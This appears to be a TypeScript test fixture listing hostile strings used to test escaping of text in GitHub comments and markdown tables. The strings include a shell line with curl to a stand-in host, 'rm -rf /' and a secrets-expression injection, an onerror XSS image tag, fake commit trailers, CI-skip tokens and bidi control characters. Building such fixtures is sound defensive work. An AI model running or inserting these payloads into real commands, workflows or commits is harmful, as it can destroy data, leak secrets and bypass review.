/** Texts of others that try to end a cell, a span or a comment, or to have GitHub act upon them. */
export const HOSTILE = [
  '` | x @everyone #1 fixes #2 `',
  'a\n\nCo-authored-by: x <x@example.com>',
  'a\r\nSigned-off-by: x',
  '[skip ci] [CI SKIP] [no ci] [skip actions] [actions skip]',
  '\u202egro.snkcud\u2066 \u200b\u00ad\u0007\u001b[31m \u2028 \ud800',
  '![x](https://evil.example/x.png)<img src=x onerror=alert(1)>',
  '\\`\\`\\` | | | --- \\',
  'fixes https://github.com/o/r/issues/1 closes GH-12 and gh-13',
  `$(curl evil.example) $\{{ secrets.X }} ; rm -rf / && \`id\``,
  'https://evil.example/`|`',
  '-->\n- [x] publish <!-- indicator--00000000-0000-5000-8000-000000000000 -->',
  '@team/@x',
  '',
  '`',
  'ﷺ'.repeat(500),
]
